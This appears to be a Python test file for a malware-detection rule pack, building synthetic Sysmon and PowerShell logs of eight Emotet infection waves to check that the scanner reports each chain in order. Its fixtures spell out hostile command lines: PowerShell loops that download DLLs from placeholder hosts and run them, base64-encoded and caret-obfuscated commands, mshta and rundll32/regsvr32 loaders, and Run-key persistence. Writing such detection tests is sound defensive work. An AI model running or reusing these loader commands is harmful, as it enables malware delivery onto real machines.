#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""The chains of our pack on every published wave of Emotet: told by host and by process tree, with their
steps in order; a story told backwards is none.

usage: test_chains.py BUILD_FOLDER
"""
import base64
import datetime
import json
import os
import sys
import tempfile

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from lib import Test  # noqa: E402

SYSMON = 'Microsoft-Windows-Sysmon'
USER = r'C:\Users\mori'
SYSTEM = r'C:\Windows\System32'
WOW = r'C:\Windows\SysWOW64'
SHELL = SYSTEM + r'\WindowsPowerShell\v1.0\powershell.exe'
OFFICE = r'C:\Program Files\Microsoft Office\root\Office16'
DESKTOP = r'C:\Windows\explorer.exe'
LINKS = '("http://a.example.com/wp-admin/x1/","http://b.example.net/wp-content/y2/","http://c.example.org/z3/")'


def encoded(script):
    return base64.b64encode(script.encode('utf-16-le')).decode()


class Story:
    """Events of Sysmon and PowerShell on one host, ten seconds apart."""

    def __init__(self):
        self.events, self.processes = [], {}
        self.time = datetime.datetime(2024, 3, 4, 9, 0, 0)

    def add(self, provider, channel, event_id, data):
        self.time += datetime.timedelta(seconds=10)
        self.events.append({'Provider_Name': provider, 'Channel': channel, 'EventID': event_id, 'Computer': 'PC-1.corp.example',
                            'TimeCreated': self.time.strftime('%Y-%m-%dT%H:%M:%S.0000000Z'),
                            'EventRecordID': len(self.events) + 1, **data})

    def sysmon(self, event_id, name, **data):
        about = self.processes[name]
        self.add(SYSMON, SYSMON + '/Operational', event_id,
                 {'ProcessGuid': about['ProcessGuid'], 'ProcessId': about['ProcessId'], 'Image': about['Image'],
                  'User': about['User'], **data})

    def start(self, name, parent, image, command, parent_image=DESKTOP):
        """`name` stands for the process from here on; `parent` is such a name, or None."""
        number = len(self.processes) + 1
        above = self.processes.get(parent)
        user = r'CORP\mori'
        self.processes[name] = {'ProcessGuid': '{5F3C59A1-0000-65E5-%04X-000000000400}' % number,
                                'ProcessId': str(4000 + 4 * number), 'Image': image, 'CommandLine': command, 'User': user}
        self.sysmon(1, name, CommandLine=command, CurrentDirectory=USER + '\\', OriginalFileName=image.rsplit('\\', 1)[1],
                    ParentProcessGuid=above['ProcessGuid'] if above else '{5F3C59A1-0000-65E5-FFFF-000000000400}',
                    ParentProcessId=above['ProcessId'] if above else '1234',
                    ParentImage=above['Image'] if above else parent_image,
                    ParentCommandLine=above['CommandLine'] if above else parent_image, ParentUser=user)

    def loaded(self, name, library):
        self.sysmon(7, name, ImageLoaded=library, Signed='true', Signature='Microsoft Windows', SignatureStatus='Valid')

    def wrote(self, name, path):
        self.sysmon(11, name, TargetFilename=path, CreationUtcTime='2024-03-04 09:00:00.000')

    def run_key(self, name, details):
        self.sysmon(13, name, EventType='SetValue', Details=details,
                    TargetObject=r'HKU\S-1-5-21-1-2-3-1001\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\ialkquzoobkioba.czi')

    def connected(self, name, address, port):
        self.sysmon(3, name, Protocol='tcp', Initiated='true', SourceIsIpv6='false', SourceIp='10.0.0.9', SourcePort='50123',
                    DestinationIsIpv6='false', DestinationIp=address, DestinationPort=str(port))

    def script(self, name, text):
        self.add('Microsoft-Windows-PowerShell', 'Microsoft-Windows-PowerShell/Operational', 4104,
                 {'MessageNumber': '1', 'MessageTotal': '1', 'ScriptBlockText': text, 'ScriptBlockId': 'b1',
                  'Execution_ProcessID': self.processes[name]['ProcessId']})

    def document(self, program, name):
        image = f'{OFFICE}\\{program}'
        self.start('office', None, image, f'"{image}" /n "{USER}\\Downloads\\{name}"')
        self.loaded('office', r'C:\Program Files\Common Files\Microsoft Shared\VBA\VBA7.1\VBE7.DLL')

    def loader(self, parent, command, program='rundll32.exe'):
        """The library that was fetched, its copy with a name by lot, and what that does."""
        self.start('first', parent, f'{WOW}\\{program}', command)
        copy = USER + r'\AppData\Local\Ckninfwzsiyqxydc\ialkquzoobkioba.czi'
        self.wrote('first', copy)
        option = ',Control_RunDLL' if program == 'rundll32.exe' else ''
        again = f'{WOW}\\{program} "{copy}"{option}'
        self.start('second', 'first', f'{WOW}\\{program}', again)
        self.run_key('second', again)
        self.connected('second', '203.0.113.7', 8080)

    def backwards(self):
        times = [e['TimeCreated'] for e in self.events]
        return [dict(e, TimeCreated=t) for e, t in zip(reversed(self.events), times)]


def download(path, run):
    return (f'$u={LINKS};$f={path};foreach($x in $u){{try{{(New-Object Net.WebClient).DownloadFile($x,$f);'
            f'if((Get-Item $f).Length -ge 28315){{{run};break}}}}catch{{}}}}')


def wave_2018(s):
    s.document('WINWORD.EXE', 'invoice.doc')
    s.start('cmd', 'office', SYSTEM + r'\cmd.exe', 'cmd /c powershell -w hidden -e ...')
    text = download("$env:USERPROFILE+'\\403.exe'", 'Start-Process $f')
    s.start('shell', 'cmd', SHELL, f'powershell -w hidden -e {encoded(text)}')
    s.script('shell', text)
    s.wrote('shell', USER + r'\403.exe')
    s.start('first', 'shell', USER + r'\403.exe', f'"{USER}\\403.exe"')
    s.connected('first', '203.0.113.7', 8080)


def wave_2020_12(s):
    s.document('WINWORD.EXE', 'report.doc')
    s.loaded('office', r'C:\Windows\System32\wbem\wbemdisp.dll')
    text = download("$HOME+'\\Jxk4jr_\\Dhuljgz\\D71J.dll'", "&('rundll32') $f,('Control_RunDLL').tostring()")
    command = ('cmd cmd cmd cmd /c msg %username% /v Word experienced an error trying to open the file. &  '
               f'P^Ow^er^she^L^L -w hidden -ENCOD                 {encoded(text)}')
    s.start('cmd', None, SYSTEM + r'\cmd.exe', command, SYSTEM + r'\wbem\WmiPrvSE.exe')
    s.start('shell', 'cmd', SHELL, f'POwersheLL -w hidden -ENCOD                 {encoded(text)}')
    s.script('shell', text)
    s.wrote('shell', USER + r'\Jxk4jr_\Dhuljgz\D71J.dll')
    s.loader('shell', f'"{SYSTEM}\\rundll32.exe" {USER}\\Jxk4jr_\\Dhuljgz\\D71J.dll,Control_RunDLL')


def wave_2021_11(s):
    s.document('EXCEL.EXE', 'list.xlsm')
    s.start('shell', 'office', SHELL,
            r'powershell  $dfkj="$strs=\"http://a.example.com/x/,http://b.example.net/y/\".Split(\",\");foreach($st in $strs)'
            r'{$r1=Get-Random;$r2=Get-Random;$tpth=\"C:\ProgramData\\\"+$r1+\".dll\";Invoke-WebRequest -Uri $st -OutFile $tpth;'
            r'if(Test-Path $tpth){$fp=\"C:\Windows\SysWow64\rundll32.exe\";$a=$tpth+\",f\"+$r2;'
            r'Start-Process $fp -ArgumentList $a;break;}};";IEX $dfkj')
    s.wrote('shell', r'C:\ProgramData\1183497.dll')
    s.loader('shell', r'"C:\Windows\SysWow64\rundll32.exe" C:\ProgramData\1183497.dll,f88213')


def wave_2021_12(s):
    s.document('EXCEL.EXE', 'bill.xls')
    s.start('cmd', 'office', SYSTEM + r'\cmd.exe', 'cmd /c m^sh^t^a h^tt^p^:/^/0xb907d607/fer/fe3.html')
    s.start('page', 'cmd', SYSTEM + r'\mshta.exe', 'mshta http://0xb907d607/fer/fe3.html')
    text = download("'C:\\Users\\Public\\Documents\\ssd.dll'", 'rundll32 $f,AnyString')
    s.start('shell', 'page', SHELL, f'powershell.exe -noexit -c {text}')
    s.wrote('shell', r'C:\Users\Public\Documents\ssd.dll')
    s.loader('shell', r'C:\Windows\SysWow64\rundll32.exe C:\Users\Public\Documents\ssd.dll,AnyString')


def wave_2022_02(s):
    s.document('EXCEL.EXE', 'order.xls')
    s.wrote('office', r'C:\ProgramData\oue4hjld.vbs')
    s.start('host', 'office', SYSTEM + r'\wscript.exe', r'wscript c:\programdata\oue4hjld.vbs')
    text = download("'C:\\ProgramData\\vxcjkfhd.dll'", 'exit')
    s.start('shell', 'host', SHELL, f'powershell.exe -enc {encoded(text)}')
    s.wrote('shell', r'C:\ProgramData\vxcjkfhd.dll')
    s.loader('host', r'C:\Windows\SysWow64\rundll32.exe C:\ProgramData\vxcjkfhd.dll,dfsgeresd')


def wave_2022_03(s):
    s.document('EXCEL.EXE', 'form.xls')
    s.wrote('office', USER + r'\aew.ocx')
    s.loader('office', r'C:\Windows\SysWow64\regsvr32.exe /s ..\aew.ocx', 'regsvr32.exe')
    s.connected('second', '198.51.100.4', 587)  # a sheet leaves no script and no download: the mail is the fifth stage


def wave_2022_04(s):
    script = ('$ProgressPreference="SilentlyContinue";$links=' + LINKS + ';foreach ($u in $links) {try {IWR $u -OutFile '
              '$env:TEMP/LqwxbPrZJz.LMo;Regsvr32.exe $env:TEMP/LqwxbPrZJz.LMo;break} catch { }}')
    hidden = base64.b64encode(script.encode()).decode()
    s.start('shell', None, SHELL,
            '"' + SHELL + '" -command Out-String -InputObject "Invoice for payment.lnk" | Out-Null; '
            f"[System.Text.Encoding]::ASCII.GetString([System.Convert]::FromBase64String('{hidden}')) > "
            f'"{USER}\\AppData\\Local\\Temp\\sNhYaMMPOU.ps1"; powershell -executionpolicy bypass -file '
            '"$env:TEMP/sNhYaMMPOU.ps1"; Remove-Item "sNhYaMMPOU.ps1"')
    s.start('inner', 'shell', SHELL,
            f'"{SHELL}" -executionpolicy bypass -file {USER}\\AppData\\Local\\Temp/sNhYaMMPOU.ps1')
    s.script('inner', script)
    s.wrote('inner', USER + r'\AppData\Local\Temp\LqwxbPrZJz.LMo')
    s.loader('inner', f'"{SYSTEM}\\Regsvr32.exe" {USER}\\AppData\\Local\\Temp/LqwxbPrZJz.LMo', 'regsvr32.exe')


def wave_2023_03(s):
    exported = USER + r'\AppData\Local\Temp\OneNote\16.0\Exported\{7D1C31F5-FD26-4A04-9D6D-1A2B3C4D5E6F}\NT\0'
    image = OFFICE + r'\ONENOTE.EXE'
    s.start('office', None, image, f'"{image}" "{USER}\\Downloads\\notes.one"')
    s.wrote('office', exported + r'\click.wsf')
    s.start('host', 'office', SYSTEM + r'\wscript.exe', f'"{SYSTEM}\\WScript.exe" "{exported}\\click.wsf"')
    s.wrote('host', exported + r'\rad00A25.tmp.dll')
    s.loader('host', f'"{SYSTEM}\\regsvr32.exe" "{exported}\\rad00A25.tmp.dll"', 'regsvr32.exe')


# the wave, and what its form is called
WAVES = [(wave_2018, '(2018 to November 2020)'), (wave_2020_12, '(December 2020, January 2021)'),
         (wave_2021_11, '(November 2021)'), (wave_2021_12, '(December 2021, January 2022)'),
         (wave_2022_02, '(February 2022)'), (wave_2022_03, '(February to July, November 2022)'),
         (wave_2022_04, '(April, May 2022)'), (wave_2023_03, '(March 2023)')]
HOST, TREE = 'Infection Chain Consistent With Emotet', 'Infection Chain in One Process Tree, Consistent With Emotet'


class Chains:
    def __init__(self, t, folder):
        self.t, self.log = t, os.path.join(folder, 'events.jsonl')

    def scan(self, events, *options):
        with open(self.log, 'w', encoding='utf-8') as handle:
            handle.writelines(json.dumps(event) + '\n' for event in events)
        code, out, err = self.t.run('scan', '-q', '--format', 'jsonl', *options, self.log)
        self.t.check(code == 0, f'exit {code}, {err[:300]}')
        return [json.loads(line) for line in out.decode().splitlines()]


def values(finding, field):
    return [m['value'] for m in finding['matched'] if m['field'] == field]


def waves(x):
    for wave, title in WAVES:
        s = Story()
        wave(s)
        found = [f for f in x.scan(s.events) if f.get('correlation')]
        told = {f['rule_title']: f for f in found}
        for what in (HOST, TREE):
            x.t.check([f['rule_title'] for f in found].count(what) == 1, f'{title}: {what} is not told once: {sorted(told)}')
            if what not in told:
                continue
            steps, missing = values(told[what], 'stage'), values(told[what], 'out of order') + values(told[what], 'not seen')
            x.t.check(values(told[what], 'stages') == [f'{len(steps)} of 9'] and len(steps) + len(missing) == 9,
                      f'{title}: {told[what]["matched"]}')
            events = told[what]['correlation']['events']
            x.t.check(len({e['record_id'] for e in events}) == len(events) == len(steps), f'{title}: {events}')
        forms = [name for name in told if name.startswith('Chain Form')]
        x.t.check(sum(title in form and 'in One Process Tree' in form for form in forms) == 1 and
                  sum(title in form for form in forms) == 2, f'{title}: {forms}')
        back = [f['rule_title'] for f in x.scan(s.backwards()) if f.get('correlation')]
        x.t.check(not any(title in name or name in (HOST, TREE) for name in back), f'{title} told backwards: {back}')


def two_trees(x):
    """A story whose processes are in different trees is one of the host, not of a tree."""
    s = Story()
    wave_2021_11(s)
    events = s.events
    for e in events:
        if e['EventID'] == 1:
            e.update(ParentProcessGuid='{5F3C59A1-0000-65E5-FFFF-000000000400}', ParentImage=DESKTOP, ParentProcessId='1234')
    found = [f['rule_title'] for f in x.scan(events) if f.get('correlation')]
    x.t.check(HOST in found and TREE not in found, f'two trees: {found}')


def without_trees(x):
    """What is in no known tree is not in one tree together."""
    rules = os.path.join(os.path.dirname(x.log), 'rules.yml')
    with open(rules, 'w', encoding='utf-8') as handle:
        handle.write("title: one\nid: 00000000-0000-4000-8000-000000000001\nname: one\nlogsource: {product: windows, "
                     "service: system}\ndetection: {s: {A: x}, condition: s}\n---\n"
                     "title: two\nid: 00000000-0000-4000-8000-000000000002\nname: two\nlogsource: {product: windows, "
                     "service: system}\ndetection: {s: {A: p}, condition: s}\n---\n")
        for n, (kind, by) in enumerate([('temporal', 'ProcessTree'), ('temporal_ordered', 'Computer, ProcessTree'),
                                        ('temporal', 'Computer')], 3):
            handle.write(f"title: {kind} {by}\nid: 00000000-0000-4000-8000-00000000000{n}\ncorrelation: {{type: {kind}, "
                         f'rules: [one, two], group-by: [{by}], timespan: 1h}}\n---\n')
    events = [{'Provider_Name': 'X', 'Channel': 'System', 'EventID': 1, 'Computer': 'h', 'EventRecordID': n, 'A': a,
               'TimeCreated': f'2024-01-01T00:00:0{n}.0000000Z'} for n, a in ((1, 'x'), (2, 'p'))]
    found = [f['rule_title'] for f in x.scan(events, '--rules', rules)]
    x.t.check(found == ['temporal Computer'], f'without a tree: {found}')


def main():
    t = Test(sys.argv[1])
    with tempfile.TemporaryDirectory() as folder:
        x = Chains(t, folder)
        waves(x)
        two_trees(x)
        without_trees(x)
    return t.end()


if __name__ == '__main__':
    sys.exit(main())
